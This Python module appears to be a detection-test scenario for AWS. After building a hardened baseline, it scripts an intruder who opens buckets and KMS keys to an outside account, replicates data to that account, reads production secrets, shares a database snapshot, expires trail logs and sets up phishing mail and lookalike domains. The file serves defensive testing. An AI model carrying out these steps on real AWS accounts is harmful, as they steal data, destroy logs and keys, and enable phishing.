"""Buckets, keys, secrets, databases, messages, names: what can be shared, changed or sent out."""

from __future__ import annotations

import json

from .account import ACCOUNT, HOME, INTRUDER, SECOND, Story, document, grant, role

BLOCK = dict.fromkeys(("BlockPublicAcls", "IgnorePublicAcls", "BlockPublicPolicy", "RestrictPublicBuckets"), True)


def ordinary(story: Story) -> None:
    s3 = story.operator("s3")
    for bucket in ("acme-app-data", "acme-exports", "acme-trail-logs"):
        s3.create_bucket(Bucket=bucket)
        s3.put_public_access_block(Bucket=bucket, PublicAccessBlockConfiguration=BLOCK)
        s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Enabled"})
        s3.put_bucket_encryption(Bucket=bucket, ServerSideEncryptionConfiguration={"Rules": [{"ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"}}]})
        story.good("bucket", HOME, "s3", "ListBuckets", bucket)
    logs = "arn:aws:s3:::acme-trail-logs"
    service, of_trail = {"Service": "cloudtrail.amazonaws.com"}, {"StringEquals": {"aws:SourceArn": f"arn:aws:cloudtrail:{HOME}:{ACCOUNT}:trail/org-trail"}}
    s3.put_bucket_policy(Bucket="acme-trail-logs", Policy=document(
        grant(service, "s3:GetBucketAcl", logs, Condition=of_trail), grant(service, "s3:PutObject", f"{logs}/AWSLogs/{ACCOUNT}/*", Condition=of_trail)))
    s3.put_object(Bucket="acme-exports", Key="2026/customers.csv", Body=b"id,name\n1,Ada\n")
    secrets = story.operator("secretsmanager")
    for name in ("prod/db", "prod/stripe"):
        value = json.dumps({"password": story.simple_secret(f"secretsmanager:{name}")})
        story.good("secret", HOME, "secretsmanager", "ListSecrets", secrets.create_secret(Name=name, SecretString=value)["ARN"])
    story.operator("rds").create_db_instance(
        DBInstanceIdentifier="orders", DBInstanceClass="db.t3.medium", Engine="postgres", AllocatedStorage=20, MasterUsername="app",
        MasterUserPassword=story.simple_secret("rds:master"), PubliclyAccessible=False)
    story.good("database", HOME, "rds", "DescribeDBInstances", "orders")
    key = story.operator("kms").create_key(Description="customer data")["KeyMetadata"]["KeyId"]
    story.kept["key"] = story.good("key", HOME, "kms", "ListKeys", key)
    table = story.operator("dynamodb").create_table(
        TableName="carts", BillingMode="PAY_PER_REQUEST", AttributeDefinitions=[{"AttributeName": "id", "AttributeType": "S"}],
        KeySchema=[{"AttributeName": "id", "KeyType": "HASH"}])["TableDescription"]["TableName"]
    story.good("table", HOME, "dynamodb", "ListTables", table)


def buckets(story: Story) -> None:
    s3 = story.intruder("s3")
    s3.delete_public_access_block(Bucket="acme-exports")
    s3.put_bucket_policy(Bucket="acme-exports", Policy=document(grant(
        {"AWS": f"arn:aws:iam::{INTRUDER}:root"}, "s3:*", ["arn:aws:s3:::acme-exports", "arn:aws:s3:::acme-exports/*"])))
    story.bad("bucket-policy", HOME, "s3", "GetBucketPolicy", INTRUDER, Bucket="acme-exports")
    s3.create_bucket(Bucket="acme-mirror-target")
    s3.put_bucket_versioning(Bucket="acme-mirror-target", VersioningConfiguration={"Status": "Enabled"})
    story.bad("bucket", HOME, "s3", "ListBuckets", "acme-mirror-target")
    s3.put_bucket_replication(Bucket="acme-app-data", ReplicationConfiguration={"Role": role("billing"), "Rules": [
        {"ID": "mirror", "Status": "Enabled", "Priority": 1, "Filter": {"Prefix": ""}, "DeleteMarkerReplication": {"Status": "Disabled"},
         "Destination": {"Bucket": "arn:aws:s3:::acme-mirror-target", "Account": INTRUDER}}]})
    story.bad("bucket-replication", HOME, "s3", "GetBucketReplication", "arn:aws:s3:::acme-mirror-target", Bucket="acme-app-data")
    s3.put_bucket_lifecycle_configuration(Bucket="acme-trail-logs", LifecycleConfiguration={"Rules": [
        {"ID": "cleanup-now", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 1}}]})
    story.bad("bucket-lifecycle", HOME, "s3", "GetBucketLifecycleConfiguration", "cleanup-now", Bucket="acme-trail-logs")
    queue = story.intruder("sqs").create_queue(QueueName="drain")["QueueUrl"]
    arn = story.intruder("sqs").get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    s3.put_bucket_notification_configuration(Bucket="acme-app-data", NotificationConfiguration={"QueueConfigurations": [
        {"Id": "drain", "QueueArn": arn, "Events": ["s3:ObjectCreated:*"]}]})
    story.bad("bucket-notification", HOME, "s3", "GetBucketNotificationConfiguration", arn, Bucket="acme-app-data")
    s3.put_bucket_acl(Bucket="acme-mirror-target", ACL="public-read")
    story.bad("bucket-acl", HOME, "s3", "GetBucketAcl", "http://acs.amazonaws.com/groups/global/AllUsers", Bucket="acme-mirror-target")


def access_point(story: Story) -> None:
    made = story.intruder("s3control").create_access_point(AccountId="123456789012", Name="side-door", Bucket="acme-app-data")["AccessPointArn"]
    story.bad("access-point", HOME, "s3control", "GetAccessPoint", made, AccountId="123456789012", Name="side-door")


def keys(story: Story) -> None:
    kms = story.intruder("kms")
    granted = kms.create_grant(KeyId=story.kept["key"], GranteePrincipal=f"arn:aws:iam::{INTRUDER}:root", Operations=["Decrypt"])["GrantId"]
    story.bad("key-grant", HOME, "kms", "ListGrants", granted, KeyId=story.kept["key"])
    policy = document(grant({"AWS": f"arn:aws:iam::{INTRUDER}:root"}, "kms:*"))
    kms.put_key_policy(KeyId=story.kept["key"], PolicyName="default", Policy=policy)
    story.bad("key-policy", HOME, "kms", "GetKeyPolicy", INTRUDER, KeyId=story.kept["key"], PolicyName="default")
    kms.schedule_key_deletion(KeyId=story.kept["key"], PendingWindowInDays=7)
    story.bad("key-deletion", HOME, "kms", "DescribeKey", "PendingDeletion", KeyId=story.kept["key"])
    secrets = story.intruder("secretsmanager")
    secrets.put_resource_policy(SecretId="prod/db", ResourcePolicy=document(grant({"AWS": f"arn:aws:iam::{INTRUDER}:root"}, "secretsmanager:GetSecretValue")))
    story.bad("secret-policy", HOME, "secretsmanager", "GetResourcePolicy", INTRUDER, SecretId="prod/db")
    for name in ("prod/db", "prod/stripe"):
        secrets.get_secret_value(SecretId=name)
    story.intruder("ssm").get_parameter(Name="/prod/github-token", WithDecryption=True)
    secrets.create_secret(Name="agent", SecretString=story.secret("secretsmanager:agent"))
    story.bad("secret", HOME, "secretsmanager", "ListSecrets", "agent")


def databases(story: Story) -> None:
    rds = story.intruder("rds")
    rds.create_db_snapshot(DBInstanceIdentifier="orders", DBSnapshotIdentifier="orders-copy")
    rds.modify_db_snapshot_attribute(DBSnapshotIdentifier="orders-copy", AttributeName="restore", ValuesToAdd=[INTRUDER])
    story.bad("database-snapshot", HOME, "rds", "DescribeDBSnapshots", "orders-copy")
    story.bad("database-snapshot-sharing", HOME, "rds", "DescribeDBSnapshotAttributes", INTRUDER, DBSnapshotIdentifier="orders-copy")


def messages(story: Story) -> None:
    sns = story.intruder("sns", SECOND)
    topic = sns.create_topic(Name="alerts-copy")["TopicArn"]
    sns.set_topic_attributes(TopicArn=topic, AttributeName="Policy", AttributeValue=document(grant({"AWS": INTRUDER}, "sns:Subscribe", topic)))
    story.bad("topic", SECOND, "sns", "ListTopics", topic)
    story.bad("topic-policy", SECOND, "sns", "GetTopicAttributes", INTRUDER, TopicArn=topic)
    subscription = sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=f"arn:aws:sqs:{SECOND}:{INTRUDER}:sink", ReturnSubscriptionArn=True)["SubscriptionArn"]
    story.bad("subscription", SECOND, "sns", "ListSubscriptions", subscription)
    queue = story.intruder("sqs", SECOND).create_queue(QueueName="relay", Attributes={
        "Policy": document(grant({"AWS": INTRUDER}, "sqs:*", f"arn:aws:sqs:{SECOND}:123456789012:relay"))})["QueueUrl"]
    story.bad("queue", SECOND, "sqs", "ListQueues", queue)
    story.bad("queue-policy", SECOND, "sqs", "GetQueueAttributes", INTRUDER, QueueUrl=queue, AttributeNames=["Policy"])
    story.intruder("ses").verify_email_identity(EmailAddress="billing@phish.example")
    story.bad("mail-identity", HOME, "ses", "ListIdentities", "billing@phish.example")
    story.intruder("ses").create_template(Template={"TemplateName": "invoice", "SubjectPart": "Invoice", "TextPart": "pay", "HtmlPart": "<p>pay</p>"})
    story.bad("mail-template", HOME, "ses", "ListTemplates", "invoice")


def names(story: Story) -> None:
    certificate = story.intruder("acm", SECOND).request_certificate(DomainName="login.acme-support.example")["CertificateArn"]
    story.bad("certificate", SECOND, "acm", "ListCertificates", certificate)
    route53 = story.intruder("route53")
    zone = route53.create_hosted_zone(Name="acme-support.example", CallerReference="1")["HostedZone"]["Id"]
    story.bad("hosted-zone", HOME, "route53", "ListHostedZones", zone)
    route53.change_resource_record_sets(HostedZoneId=zone, ChangeBatch={"Changes": [{"Action": "CREATE", "ResourceRecordSet": {
        "Name": "login.acme-support.example.", "Type": "A", "TTL": 60, "ResourceRecords": [{"Value": "203.0.113.66"}]}}]})
    story.bad("record", HOME, "route53", "ListResourceRecordSets", "203.0.113.66", HostedZoneId=zone.rsplit("/", 1)[-1])
    pool = story.intruder("cognito-identity", SECOND).create_identity_pool(IdentityPoolName="guests", AllowUnauthenticatedIdentities=True)["IdentityPoolId"]
    story.bad("identity-pool", SECOND, "cognito-identity", "ListIdentityPools", pool, MaxResults=60)
    share = story.intruder("ram", SECOND).create_resource_share(name="common", principals=["123456789012"])["resourceShare"]["resourceShareArn"]
    story.bad("resource-share", SECOND, "ram", "GetResourceShares", share, resourceOwner="SELF")


def intrusion(story: Story) -> None:
    story.play(buckets, access_point, keys, databases, messages, names)
